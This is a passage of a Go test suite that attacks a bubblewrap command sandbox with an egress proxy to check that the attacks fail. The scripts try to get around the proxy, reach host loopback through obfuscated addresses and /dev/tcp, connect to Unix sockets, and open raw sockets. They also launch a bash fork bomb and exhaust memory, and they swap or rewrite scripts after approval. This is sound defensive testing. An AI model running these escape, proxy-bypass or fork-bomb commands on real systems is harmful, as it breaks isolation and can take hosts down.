}

// perlUnixConnect connects to the Unix socket $1 ("@name" is abstract) and
// says so, naming it $2.
const perlUnixConnect = `perl -MSocket -e '(my $p = $ARGV[0]) =~ s/^@/\0/; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die "socket: $!\n"; connect($s, pack_sockaddr_un($p)) or die "connect: $!\n"; print "HOST-REACHED-perl-$ARGV[1]\n"'`

// hostControl shows every listener reachable from a plain host process
// by each technique the attack then tries from inside.
func (e *attackEnv) hostControl(t *testing.T) {
	t.Helper()
	before := e.counts()
	abstract := strings.TrimPrefix(e.abstractName, "@")
	script := `for u in ` + strings.Join(e.loopbackURLs(), " ") + `; do curl -sg -m 5 --noproxy '*' "$u"; done
for h in 127.0.0.1 2130706433 0x7f000001; do (exec 3<>/dev/tcp/$h/` + e.ls["lo"].port() + ` && echo "HOST-REACHED-devtcp-$h"); done
curl -s -m 5 --unix-socket ` + e.unixPath + ` http://x/
curl -s -m 5 --abstract-unix-socket ` + abstract + ` http://x/
` + perlUnixConnect + ` ` + e.wsSock + ` ws
` + perlUnixConnect + ` ` + e.abstractName + ` abstract`
	out := e.onHost(t, script)
	want := map[string]int{"HOST-REACHED-lo\n": 7, "HOST-REACHED-lo6\n": 1, "HOST-REACHED-unix\n": 1, "HOST-REACHED-abstract\n": 1,
		"HOST-REACHED-perl-ws": 1, "HOST-REACHED-perl-abstract": 1, "HOST-REACHED-devtcp-": 3}
	if e.ls["iface"] != nil {
		want["HOST-REACHED-iface\n"] = 1
	}
	for s, n := range want {
		if got := strings.Count(out, s); got != n {
			t.Fatalf("control: %q %d times from a host process, want %d:\n%s", s, got, n, out)
		}
	}
	// Every connection accepted before the attack starts counting: a
	// connect returns once the kernel queued it, before the accept.
	conns := map[string]int32{"lo": 10, "lo6": 1, "iface": 1, "unix": 1, "abstract": 2, "unix-ws": 1}
	deadline := time.Now().Add(5 * time.Second)
	for n, l := range e.ls {
		for l.accepted.Load()-before[n] < conns[n] && time.Now().Before(deadline) {
			time.Sleep(10 * time.Millisecond)
		}
		if got := l.accepted.Load() - before[n]; got != conns[n] {
			t.Fatalf("control: the %s listener accepted %d connections from a host process, want %d", n, got, conns[n])
		}
	}
}

func (e *attackEnv) aroundProxy(t *testing.T) {
	e.hostControl(t)
	before := e.counts()
	lo := e.ls["lo"].port()
	abstract := strings.TrimPrefix(e.abstractName, "@")
	devtcp := []string{"127.0.0.1/" + lo, "2130706433/" + lo, "0x7f000001/" + lo, "0177.0.0.1/" + lo, "localhost/" + lo, "::1/" + e.ls["lo6"].port()}
	if l := e.ls["iface"]; l != nil {
		devtcp = append(devtcp, e.host.ifaceIP+"/"+l.port())
	}
	script := `env | grep -ci '^https\?_proxy=http://127.0.0.1:' | sed 's/^/proxy-vars=/'
for u in ` + strings.Join(e.loopbackURLs(), " ") + `; do
  curl -sg -m 3 --noproxy '*' "$u"
  env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sg -m 3 "$u"
done
for a in ` + strings.Join(devtcp, " ") + `; do (exec 3<>/dev/tcp/$a && echo "HOST-REACHED-devtcp-$a") 2>/dev/null; done
curl -s -m 3 --unix-socket ` + e.unixPath + ` http://x/; echo "curl-unix=$?"
curl -s -m 3 --unix-socket ` + e.wsSock + ` http://x/; echo "curl-unix-ws=$?"
curl -s -m 3 --abstract-unix-socket ` + abstract + ` http://x/; echo "curl-abstract=$?"
` + perlUnixConnect + ` ` + e.unixPath + ` unix 2>&1
` + perlUnixConnect + ` ` + e.wsSock + ` ws 2>&1
` + perlUnixConnect + ` ` + e.abstractName + ` abstract 2>&1
perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 6) or die "raw: $!\n"; print "RAW-OPEN\n"' 2>&1
perl -MSocket -e 'socket(my $s, 17, SOCK_RAW, 0x0300) or die "packet: $!\n"; print "PACKET-OPEN\n"' 2>&1
awk 'NR>2 {print "IF " $1}' /proc/net/dev`
	r := e.run(t, "--", script)
	if r.exec("status") != "completed" || r.exec("sandbox_mode") != "bubblewrap" {
		t.Fatalf("not a completed bubblewrap run: %v", r.ev)
	}
	e.checkNoConnections(t, before, "around the proxy")
	if strings.Contains(r.out, "HOST-REACHED") {
		t.Errorf("a host listener answered:\n%s", r.out)
	}
	// The proxy was there to be bypassed.
	if !strings.Contains(r.out, "proxy-vars=4") {
		t.Errorf("the run had no proxy variables to go around:\n%s", r.out)
	}
	for _, want := range []string{
		"socket: Operation not permitted", // AF_UNIX, by the filter
		"raw: Operation not permitted",    // no CAP_NET_RAW, even in its own namespace
		"packet: Operation not permitted",
		"IF lo:",
	} {
		if !strings.Contains(r.out, want) {
			t.Errorf("want %q in:\n%s", want, r.out)
		}
	}
	if strings.Count(r.out, "IF ") != 1 {
		t.Errorf("an interface other than the sandbox's loopback:\n%s", r.out)
	}
	for _, s := range []string{"curl-unix=0", "curl-unix-ws=0", "curl-abstract=0", "RAW-OPEN", "PACKET-OPEN"} {
		if strings.Contains(r.out, s) {
			t.Errorf("%s:\n%s", s, r.out)
		}
	}
}

// throughProxy: every spelling of loopback and of the host's interface,
// through the run's proxy, as agent "net" whose allowlist names them (so
// only the proxy's own refusals stand in the way): curl with the proxy
// variables, and raw CONNECT and absolute-form requests (curl normalises
// numeric hosts before asking the proxy; these do not).
func (e *attackEnv) throughProxy(t *testing.T) {
	before := e.counts()
	lo, lo6 := e.ls["lo"].port(), e.ls["lo6"].port()
	type want struct {
		reason   string
		category []string // for refused_address
	}
	addr := want{"refused_address", []string{"loopback", "host_interface"}}
	numeric := want{"numeric_host", nil}
	targets := map[string]want{
		"127.0.0.1:" + lo:          addr,
		"[::1]:" + lo6:             addr,
		`"2130706433":` + lo:       numeric,
		`"0177.0.0.1":` + lo:       numeric,
		`"0x7f000001":` + lo:       numeric,
		`"127.1":` + lo:            numeric,
		"[::ffff:127.0.0.1]:" + lo: {"not_allowlisted", nil}, // a mapped address is never allowlisted
		"localhost:" + lo:          {"refused_name", nil},
		"sub.localhost:" + lo:      {"refused_name", nil},
	}
	reqs := []string{
		"CONNECT 2130706433:" + lo, "CONNECT 0177.0.0.1:" + lo, "CONNECT 0x7f000001:" + lo, "CONNECT 127.1:" + lo,
		"GET http://2130706433:" + lo + "/", "CONNECT [::ffff:127.0.0.1]:" + lo, "GET http://[::ffff:7f00:1]:" + lo + "/",
		"CONNECT 127.0.0.1:" + lo, "CONNECT [::1]:" + lo6, "CONNECT sub.localhost:" + lo,
	}
	urls := e.loopbackURLs()
	resolving := e.dns != nil
	if l := e.ls["iface"]; l != nil {
		targets[e.host.ifaceIP+":"+l.port()] = want{"refused_address", []string{"host_interface"}}
		reqs = append(reqs, "CONNECT "+e.host.ifaceIP+":"+l.port())
	}
	if resolving {
		// Names the allowlist admits (*.e2e.test), resolved by the proxy
		// on the host to loopback and to the host's interface.
		targets["loop.e2e.test:"+lo] = addr
		targets["loop6.e2e.test:"+lo6] = addr
		targets["iface.e2e.test:"+e.ls["iface"].port()] = want{"refused_address", []string{"host_interface"}}
		urls = append(urls, "http://loop.e2e.test:"+lo+"/", "https://loop6.e2e.test:"+lo6+"/", "http://iface.e2e.test:"+e.ls["iface"].port()+"/")
		// Control: the server answers those names with those addresses.
		r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "udp", e.dns.ip+":53")
		}}
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		got, err := r.LookupNetIP(ctx, "ip4", "loop.e2e.test.")
		cancel()
		if err != nil || len(got) != 1 || !got[0].IsLoopback() {
			t.Fatalf("control: loop.e2e.test resolves to %v, %v", got, err)
		}
	}
	// Each attempt is one request to the proxy: -m bounds each, and curl
	// makes no second attempt.
	// Loopback goes around the proxy inside the sandbox (to the run's own
	// loopback, where nothing of the host's is); the attacker sends it
	// through the proxy instead, to try the proxy's refusal.
	script := `export NO_PROXY= no_proxy=
for u in ` + strings.Join(urls, " ") + `; do curl -sg -m 5 -o /dev/null -w "%{http_code} $u\n" "$u"; curl -sg -m 5 "$u" | grep HOST-REACHED; done
p=${HTTP_PROXY##*:}
while IFS= read -r req; do
  exec 3<>/dev/tcp/127.0.0.1/$p || continue
  printf '%s HTTP/1.1\r\nHost: x\r\n\r\n' "$req" >&3
  IFS= read -r -t 5 line <&3; echo "$req => $line"
  exec 3<&-
done <<'EOF'
` + strings.Join(reqs, "\n") + `
EOF`
	qBefore := int32(0)
	var r attackRun
	if resolving {
		qBefore = e.dns.queries.Load()
		r = e.runResolving(t, "--agent", "net", "--", script)
	} else {
		r = e.run(t, "--agent", "net", "--", script)
	}
	if r.exec("status") != "completed" {
		t.Fatalf("the attack did not complete: %v\n%s", r.ev, r.out)
	}
	e.checkNoConnections(t, before, "through the proxy")
	if strings.Contains(r.out, "HOST-REACHED") {
		t.Errorf("a host listener answered through the proxy:\n%s", r.out)
	}
	if strings.Count(r.out, "403 Forbidden") != len(reqs) {
		t.Errorf("want every raw request refused (403):\n%s", r.out)
	}
	attempts := 2*len(urls) + len(reqs)
	if a := r.exec("egress", "allowed"); a != float64(0) {
		t.Errorf("egress allowed %v", a)
	}
	if d := r.exec("egress", "denied"); d != float64(attempts) {
		t.Errorf("egress denied %v, want %d (every attempt): %v\n%s", d, attempts, r.exec("egress"), r.out)
	}
	seen := map[string]bool{}
	for _, ev := range r.dlp {
		tgt, _ := field(ev, "data", "destination", "target").(string)
		reason, _ := field(ev, "data", "destination", "reason").(string)
		cat, _ := field(ev, "data", "destination", "category").(string)
		seen[tgt] = true
		w, ok := targets[tgt]
		if !ok {
			t.Errorf("unexpected refused destination %s (%s)", tgt, reason)
			continue
		}
		if reason != w.reason || w.category != nil && !slices.Contains(w.category, cat) {
			t.Errorf("%s refused as %s/%s, want %s/%v", tgt, reason, cat, w.reason, w.category)
		}
	}
	for tgt := range targets {
		if !seen[tgt] {
			t.Errorf("no unauthorized_destination event for %s: %v", tgt, r.exec("egress"))
		}
	}
	if resolving && e.dns.queries.Load() == qBefore {
		t.Errorf("the proxy never asked the test's resolver: the names were refused before resolving")
	}
}

func (e *attackEnv) memoryLimit(t *testing.T) {
	m := marker(t)
	// 16 MiB fits, 400 MiB does not. The big one is the command itself
	// (exec), so a cgroup kill is the run's end.
	r := e.run(t, "--", `perl -e '$x = "a" x (16*1024*1024); print "SMALL-OK\n"'; exec -a `+m+` perl -e '$x = "a" x (400*1024*1024); print "BIG-ALLOCATED\n"'`)
	if !strings.Contains(r.out, "SMALL-OK") {
		t.Fatalf("control: the small allocation failed:\n%s", r.out)
	}
	if strings.Contains(r.out, "BIG-ALLOCATED") {
		t.Errorf("400 MiB allocated under a %d-byte limit:\n%s", attackMemoryBytes, r.out)
	}
	mech := "cgroup"
	if e.asUser != nil || os.Geteuid() != 0 {
		mech = "rlimit" // no cgroup for an unprivileged gateway on cgroup v1
	}
	if got := r.exec("limits_enforced", "memory"); fmt.Sprint(got) != fmt.Sprintf("map[enforced:true mechanism:%s]", mech) {
		t.Errorf("limits_enforced.memory %v, want %s", got, mech)
	}
	if mech == "cgroup" {
		if r.exec("status") != "killed" || r.exec("exit_code") != nil || r.code != 137 {
			t.Errorf("want the run killed by the memory cgroup: %v (exit %d)", r.exec(), r.code)
		}
	} else if r.exec("status") != "completed" || r.exec("exit_code") == float64(0) || r.exec("exit_code") == nil {
		t.Errorf("want the allocation to fail under RLIMIT_AS: %v\n%s", r.exec(), r.out)
	}
	if pids := processesWith(m); len(pids) > 0 {
		t.Errorf("survived: %v", pids)
	}
}

func (e *attackEnv) processLimit(t *testing.T) {
	// Counted: how many children can it start?
	r := e.run(t, "--", `perl -e 'my $n = 0; for (1..200) { my $p = fork; last unless defined $p; if ($p == 0) { sleep 4; exit } $n++ } print "forked=$n\n"'`)
	var n int
	if _, err := fmt.Sscanf(r.out, "forked=%d", &n); err != nil || n <= 0 || n >= attackPids {
		t.Fatalf("forked %d with pids %d: %s", n, attackPids, r.out)
	}
	mech := "cgroup"
	if e.asUser != nil || os.Geteuid() != 0 {
		mech = "rlimit"
	}
	if got := r.exec("limits_enforced", "process_count"); fmt.Sprint(got) != fmt.Sprintf("map[enforced:true mechanism:%s]", mech) {
		t.Errorf("limits_enforced.process_count %v, want %s", got, mech)
	}
	// Only once the bound is known to hold: a real fork bomb, each copy
	// carrying the marker in argv[0].
	m := marker(t)
	start := time.Now()
	r = e.run(t, "--timeout", "5", "--", `exec -a `+m+` bash -c 'bomb() { bomb | bomb & }; bomb; exec sleep 2'`)
	if s := r.exec("status"); s != "completed" && s != "timed_out" {
		t.Errorf("fork bomb: %v", r.exec())
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("the fork bomb's run took %v", d)
	}
	deadline := time.Now().Add(3 * time.Second)
	for len(processesWith(m)) > 0 && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
	}
	if pids := processesWith(m); len(pids) > 0 {
		t.Errorf("fork bomb processes survived: %d", len(pids))
	}
	if err := exec.Command("/bin/true").Run(); err != nil {
		t.Errorf("the host cannot fork: %v", err)
	}
}

func (e *attackEnv) swapDuringHold(t *testing.T) {
	script := filepath.Join(e.ws, "held-deploy.sh")
	judged := []byte("#!/bin/bash\necho JUDGED-BYTES\n")
	must(t, os.WriteFile(script, judged, 0o755))
	must(t, os.Chown(script, e.uid, e.gid))
	done := make(chan result, 1)
	go func() { done <- e.exec(t, "--json", "--", "./held-deploy.sh; bash held-deploy.sh; cat held-deploy.sh") }()
	id := waitHold(t, e.world)
	// Judged and pinned; held; now the script changes on disk.
	must(t, os.WriteFile(script, []byte("#!/bin/bash\necho SWAPPED-BYTES\n"), 0o755))
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if a := e.gw(t, ctx, "", "approvals", "approve", "--admin-dir", e.admin, id); a.code != 0 {
		t.Fatalf("approve: %+v", a)
	}
	r := e.parse(t, <-done)
	if r.stdout != "JUDGED-BYTES\nJUDGED-BYTES\n#!/bin/bash\necho JUDGED-BYTES\n" {
		t.Errorf("want the judged bytes to run, got:\n%s", r.out)
	}
	sum := sha256.Sum256(judged)
	pins, _ := r.exec("pinned_scripts").([]any)
	if len(pins) != 1 || field(pins[0].(map[string]any), "sha256") != hex.EncodeToString(sum[:]) || field(pins[0].(map[string]any), "pin_method") != "bind" {
		t.Errorf("pinned_scripts: %v", pins)
	}
	if b, _ := os.ReadFile(script); !strings.Contains(string(b), "SWAPPED") {
		t.Errorf("control: the swap did not happen on the host: %q", b)
	}
}

func (e *attackEnv) selfRewrite(t *testing.T) {
	outer := "#!/bin/bash\necho OUTER-JUDGED\n" +
		"(printf '#!/bin/bash\\necho INNER-SWAPPED\\n' > ./inner.sh) 2>/dev/null && echo inner-rewritten\n" +
		"printf '#!/bin/bash\\necho INNER-SWAPPED\\n' > ./evil.sh; chmod +x evil.sh; mv -f evil.sh inner.sh 2>/dev/null && echo inner-replaced\n" +
		"rm -f inner.sh 2>/dev/null; ln -sf evil.sh inner.sh 2>/dev/null && echo inner-relinked\n" +
		"./inner.sh\n" +
		"(echo 'echo OUTER-APPENDED' >> \"$0\") 2>/dev/null && echo outer-appended\n"
	inner := "#!/bin/bash\necho INNER-JUDGED\n"
	files := map[string]string{"outer.sh": outer, "inner.sh": inner}
	for n, v := range files {
		p := filepath.Join(e.ws, n)
		must(t, os.WriteFile(p, []byte(v), 0o755))
		must(t, os.Chown(p, e.uid, e.gid))
	}
	// The control: on the host, the run user could have done all of it.
	ctl := e.onHost(t, `test -w outer.sh && test -w inner.sh && test -w . && echo writable`)
	if ctl != "writable\n" {
		t.Fatalf("control: %q", ctl)
	}
	r := e.run(t, "--", "./outer.sh")
	if r.stdout != "OUTER-JUDGED\nINNER-JUDGED\n" {
		t.Errorf("want only the judged bytes to run, got:\n%s", r.out)
	}
	pins, _ := r.exec("pinned_scripts").([]any)
	if len(pins) != 2 {
		t.Errorf("want outer.sh and inner.sh pinned: %v", pins)
	}
	for n, v := range files {
		if b, err := os.ReadFile(filepath.Join(e.ws, n)); err != nil || string(b) != v {
			t.Errorf("%s changed on the host: %q %v", n, b, err)
		}
	}
}

// auditClean: nothing any attack read made it into the audit log.
func (e *attackEnv) auditClean(t *testing.T) {
	b, err := os.ReadFile(e.audit)
	must(t, err)
	for p, v := range e.host.secrets {
		if strings.Contains(string(b), v) {
			t.Errorf("the content of %s is in the audit log", p)
		}
	}
	for p, v := range e.gwFiles {
		if p != e.audit && strings.Contains(string(b), v) {
			t.Errorf("the content of %s is in the audit log", p)
		}
	}
}

// dnsServer answers A and AAAA queries from a table, on a loopback address
// of its own (resolv.conf names no port: 53).
type dnsServer struct {
	ip      string
	answers map[string]netip.Addr
	queries atomic.Int32
}

func startDNS(t *testing.T, answers map[string]netip.Addr) *dnsServer {
	t.Helper()
	var pc net.PacketConn
	var ip string
	for i := 0; ; i++ {
		ip = fmt.Sprintf("127.77.%d.%d", rand.IntN(256), 1+rand.IntN(254))
		var err error
		if pc, err = net.ListenPacket("udp4", ip+":53"); err == nil {
			break
		} else if i == 20 {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { pc.Close() })
	d := &dnsServer{ip: ip, answers: answers}
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if resp := d.answer(buf[:n]); resp != nil {
				pc.WriteTo(resp, from)
			}
		}
	}()
	return d
}

func (d *dnsServer) answer(q []byte) []byte {
	if len(q) < 12 {
		return nil
	}
	i := 12
	var labels []string
	for {
		if i >= len(q) {
			return nil
		}
		l := int(q[i])
		i++
		if l == 0 {
			break
		}
		if l > 63 || i+l > len(q) {
			return nil
		}
		labels = append(labels, strings.ToLower(string(q[i:i+l])))
		i += l
	}
	if i+4 > len(q) {
		return nil
	}
	qtype := binary.BigEndian.Uint16(q[i:])
	question := q[12 : i+4]
	d.queries.Add(1)
	addr, ok := d.answers[strings.Join(labels, ".")+"."]
	flags := uint16(0x8180) // a response; recursion desired and available
	var rdata []byte
	switch {
	case !ok:
		flags |= 3 // NXDOMAIN
	case qtype == 1 && addr.Is4():
		b := addr.As4()
		rdata = b[:]
	case qtype == 28 && addr.Is6():
		b := addr.As16()
		rdata = b[:]
	}
	an := 0
	if rdata != nil {
		an = 1
	}
	resp := binary.BigEndian.AppendUint16(nil, binary.BigEndian.Uint16(q))
	for _, v := range []uint16{flags, 1, uint16(an), 0, 0} {
		resp = binary.BigEndian.AppendUint16(resp, v)
	}
	resp = append(resp, question...)
	if rdata != nil {
		resp = append(resp, 0xc0, 12) // the question's name
		resp = binary.BigEndian.AppendUint16(resp, qtype)
		resp = binary.BigEndian.AppendUint16(resp, 1) // IN
		resp = binary.BigEndian.AppendUint32(resp, 60)
		resp = binary.BigEndian.AppendUint16(resp, uint16(len(rdata)))
		resp = append(resp, rdata...)
	}
	return resp
}
